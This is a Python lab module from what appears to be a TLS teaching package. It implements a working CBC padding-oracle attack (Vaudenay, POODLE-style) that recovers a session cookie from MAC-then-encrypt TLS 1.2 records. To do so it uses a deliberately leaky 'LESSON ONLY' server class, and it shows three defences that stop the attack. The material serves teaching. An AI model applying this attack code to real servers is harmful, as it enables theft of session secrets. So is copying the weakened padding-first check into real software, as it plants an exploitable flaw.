"""Lab 3 — the CBC padding oracle (MAC-then-encrypt, TLS 1.2 CBC suites).

RFC 5246 §6.2.3.2 MACs the plaintext, then pads, then encrypts with CBC: the receiver must
decrypt and strip the padding before it can check the MAC. If it answers bad padding
differently from a bad MAC, it is a *padding oracle*: S. Vaudenay, "Security Flaws Induced by
CBC Padding — Applications to SSL, IPSEC, WTLS...", EUROCRYPT 2002. CBC decryption is
``P_j = D_K(C_j) XOR C_(j-1)``, so an attacker who changes the previous block by Δ changes
``P_j`` by Δ without knowing the key; put ``C_j`` last in a record and the padding check answers
"does ``P_j XOR Δ`` end in valid padding?" — one byte of ``P_j`` for at most 256 questions.

TLS closes the connection at the first bad record, but B. Canvel et al., "Password
Interception in a SSL/TLS Channel", CRYPTO 2003, noted that a client sending the same secret in
every new connection (a mail password, a cookie) gives one question per connection: the relation
between Δ and the plaintext holds whatever the keys. That is what this lab does: every query is a
new session of the package's client and a weakened lesson server, and the attacker knows the
cookie is 16 hex digits (it tries those guesses first; any byte value is still tried).

Three defences each close it, and the same attack code shows it, failing at ``record_mac``:
one alert for both failures (RFC 5246 §6.2.3.2, the package's ``CBC12``, computing the MAC even
over bad padding against Lucky Thirteen, AlFardan & Paterson 2013), encrypt-then-MAC (RFC 7366,
``CBC12EtM``: the MAC is checked before any padding exists) and AEAD (AES-GCM).
"""
from __future__ import annotations

from dataclasses import dataclass, field

from .. import suites
from ..client import ClientConnection
from ..constants import AlertDescription as AD
from ..errors import AlertError
from ..lesson.configs import lesson_client, lesson_server
from ..record import CBC12, Record
from ..rng import lesson_rngs
from ..server import ServerConnection
from . import identities
from .bleichenbacher import AttackFailed
from .inmemory import observe, run

CBC_SUITE = suites.get("TLS_RSA_WITH_AES_128_CBC_SHA")
GCM_SUITE = suites.get("TLS_RSA_WITH_AES_128_GCM_SHA256")
# The attacker chose the path's length (POODLE's trick: Möller, Duong, Kotowicz 2014, via a
# script it gets the browser to run) so that the cookie and the known "\r\n\r\n" end a block:
# the HMAC after them changes with every connection's keys, so the attack cannot read through it.
PREFIX = b"GET /inbox?p=123 HTTP/1.1\r\nHost: localhost\r\nCookie: session="
COOKIE = b"7f3a9c2e51d84b06"
SUFFIX = b"\r\n\r\n"
HEX = b"0123456789abcdef"
MAX_SESSIONS = 20_000              # the attack gives up after this many connections
DEFENCES = ("none", "uniform errors", "encrypt-then-MAC", "AEAD")


# -- the weakened server (lesson only) -----------------------------------------------------------
class PaddingFirstCBC12(CBC12):
    """LESSON ONLY — CBC MAC-then-encrypt that checks the padding first and fails it apart from
    the MAC: TLS 1.0's ``decryption_failed`` (21, check ``record_padding``) against
    ``bad_record_mac`` (20), the two failures RFC 4346 §7.2.2 merged because of Vaudenay's
    attack. Never a default."""

    def open(self, record: Record, seq: int | None = None) -> tuple[int, bytes]:
        if seq is None:
            seq, self.seq = self.seq, self.seq + 1
        fragment = record.fragment
        if len(fragment) < 32 or len(fragment) % 16:
            raise AlertError(AD.bad_record_mac, "not whole blocks", check="record_mac")
        data = self._decrypt(fragment)
        pad = data[-1]
        if pad + 1 + self.mac_length > len(data) or data[-pad - 1:] != bytes([pad]) * (pad + 1):
            raise AlertError(AD.decryption_failed_RESERVED, f"bad CBC padding on record {seq}",
                             check="record_padding")
        end = len(data) - pad - 1 - self.mac_length
        plaintext, tag = data[:end], data[end:end + self.mac_length]
        if tag != self._mac(seq, record.content_type, record.version, plaintext):
            raise AlertError(AD.bad_record_mac, f"bad HMAC on record {seq}", check="record_mac")
        return record.content_type, plaintext

    def _decrypt(self, fragment: bytes) -> bytes:
        from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
        dec = Cipher(algorithms.AES(self.key), modes.CBC(fragment[:16])).decryptor()
        return dec.update(fragment[16:]) + dec.finalize()


class PaddingOracleCBCServer(ServerConnection):
    """LESSON ONLY — a TLS 1.2 server whose MAC-then-encrypt CBC records are read by
    ``PaddingFirstCBC12``, and which hangs up without a word on bad padding while it sends
    (encrypted) ``bad_record_mac`` for a bad MAC. Alerts after the handshake are encrypted, so a
    different *description* would be invisible on the wire; a different *behaviour* is not —
    Merget et al., "Scalable Scanning and Automatic Classification of TLS Padding Oracle
    Vulnerabilities", USENIX Security 2019, found servers telling the two apart by closing,
    resetting or alerting. (With encrypt_then_mac or an AEAD suite it is the normal server.)"""

    def _fail(self, error) -> None:
        if getattr(error, "check", None) == "record_padding":    # close, send nothing
            self.failed = self.closed = True
            return
        super()._fail(error)

    def _tls12_master_secret(self, pre_master: bytes) -> None:
        super()._tls12_master_secret(pre_master)
        write, read = self.hs.pending_keys
        if type(read) is CBC12:                    # MAC-then-encrypt: make its reader leak
            self.hs.pending_keys = (write, PaddingFirstCBC12(self.hs.suite, read.key,
                                                               read.mac_key))


# -- the victim: one new session per question -----------------------------------------------------
class Victim:
    """A client that sends the same request with the same cookie in every new connection, to a
    server of the chosen defence. ``ask(change)`` is one connection: the attacker sees the
    client's request record, ``change`` rewrites it, the server's alert is the answer."""

    def __init__(self, defence: str = "none", request: bytes = PREFIX + COOKIE + SUFFIX,
                 seed: str = "attack-lab/cbc"):
        if defence not in DEFENCES:
            raise ValueError(f"defence must be one of {DEFENCES}")
        self.defence, self.request, self.seed = defence, request, seed
        self.sessions = 0
        self.answers: dict = {}
        self.last_check: str | None = None

    def _pair(self):
        client_rng, server_rng = lesson_rngs(f"{self.seed}/{self.sessions}")
        suite = GCM_SUITE if self.defence == "AEAD" else CBC_SUITE
        etm = self.defence == "encrypt-then-MAC"
        server_class = PaddingOracleCBCServer if self.defence == "none" else ServerConnection
        client = ClientConnection(lesson_client(rng=client_rng, versions=("1.2",),
                                                suites=(suite,), encrypt_then_mac=etm))
        server = server_class(lesson_server(rng=server_rng, versions=("1.2",), suites=(suite,),
                                            encrypt_then_mac=etm,
                                            identities=(identities.victim_rsa(),)))
        return client, server

    def ask(self, change) -> tuple:
        """One connection: the client's request record goes through ``change(fragment)``."""
        self.sessions += 1
        if self.sessions > MAX_SESSIONS:
            raise AttackFailed(f"no result after {MAX_SESSIONS} connections")
        client, server = self._pair()
        session = run(client, server)
        client.send(self.request)
        [(_, rec)] = client.records_to_send()
        original = Record.decode(rec)
        changed = Record(original.content_type, original.version, change(original.fragment))
        self.last_check = None
        try:
            server.receive(changed.encode())
        except AlertError as error:
            self.last_check = error.check      # the server's own verdict (not on the wire)
        answer = observe(server.data_to_send(), protected=True)
        self.answers[answer] = self.answers.get(answer, 0) + 1
        del session
        return answer


# -- the attack (Vaudenay 2002, §3) -----------------------------------------------------------
@dataclass
class Result:
    succeeded: bool
    recovered: bytes
    sessions: int
    answers: dict = field(default_factory=dict)
    check: str | None = None


def _blocks(fragment: bytes) -> list[bytes]:
    return [fragment[i:i + 16] for i in range(0, len(fragment), 16)]


def query_block(blocks: list[bytes], j: int, position: int, guess: int, known: bytes) -> bytes:
    """The record that asks "is byte ``position`` of plaintext block ``j`` equal to ``guess``?":
    blocks up to ``C_j`` (``blocks[0]`` is the IV), the previous block XORed so that, if the
    guess is right, ``P_j`` ends in ``L+1`` bytes of value ``L = 15 - position`` (valid TLS
    padding); ``known`` holds the bytes of ``P_j`` after ``position``, found before."""
    L = 15 - position
    prev = bytearray(blocks[j - 1])
    prev[position] ^= guess ^ L
    for offset, value in enumerate(known, start=position + 1):
        prev[offset] ^= value ^ L
    return b"".join(blocks[:j - 1]) + bytes(prev) + blocks[j]


def attack(victim: Victim, prefix: bytes = PREFIX, length: int = len(COOKIE),
           suffix: bytes = SUFFIX, alphabet: bytes = HEX, on_byte=None) -> Result:
    """Recover ``length`` secret bytes between the known ``prefix`` and ``suffix`` of the
    victim's request, byte by byte from the end of each block (Vaudenay 2002, §3)."""
    first, last = len(prefix), len(prefix) + length      # plaintext offsets of the secret
    known_bytes = {i: b for i, b in enumerate(prefix)}
    known_bytes.update({last + i: b for i, b in enumerate(suffix)})
    if any(i not in known_bytes for i in range(last, -(-last // 16) * 16)):
        raise ValueError("the secret must be followed by known bytes up to a block boundary")
    # Calibration on a block the attacker knows (the request line): a query made to give valid
    # padding and one made to give invalid padding must be answered differently.
    known_block = prefix[16:32]                           # P_2, known plaintext
    good = victim.ask(lambda f: query_block(_blocks(f), 2, 15, known_block[15], b""))
    bad = victim.ask(lambda f: query_block(_blocks(f), 2, 15, known_block[15] ^ 0x80, b""))
    if good == bad:
        raise AttackFailed(f"valid and invalid padding get the same answer "
                           f"({'; '.join(good)}): no padding oracle",
                           check=victim.last_check, queries=victim.sessions)
    recovered = bytearray()
    for j in range(first // 16 + 1, (last - 1) // 16 + 2):  # block j holds plaintext 16(j-1)..
        plain = bytearray()                                 # P_j, from the end
        for position in range(15, -1, -1):
            if 16 * (j - 1) + position in known_bytes:      # known: no question needed
                plain.insert(0, known_bytes[16 * (j - 1) + position])
                continue
            order = list(alphabet) + [g for g in range(256) if g not in alphabet]
            for guess in order:
                answer = victim.ask(lambda f: query_block(_blocks(f), j, position, guess,
                                                          bytes(plain)))
                if answer != good:
                    continue
                if position == 15:   # "... 02 02" would also pass: change byte 14 and ask again
                    def flipped(f, guess=guess):
                        q = bytearray(query_block(_blocks(f), j, 15, guess, b""))
                        q[-32 + 14] ^= 0xFF
                        return bytes(q)
                    if victim.ask(flipped) != good:
                        continue
                plain.insert(0, guess)
                break
            else:
                raise AttackFailed(f"no byte value fits position {position} of block {j}",
                                   queries=victim.sessions)
            if on_byte is not None:
                on_byte(j, position, guess, victim.sessions)
        recovered += plain
    start = first - 16 * (first // 16)
    secret = bytes(recovered[start:start + length])
    return Result(True, secret, victim.sessions, dict(victim.answers))
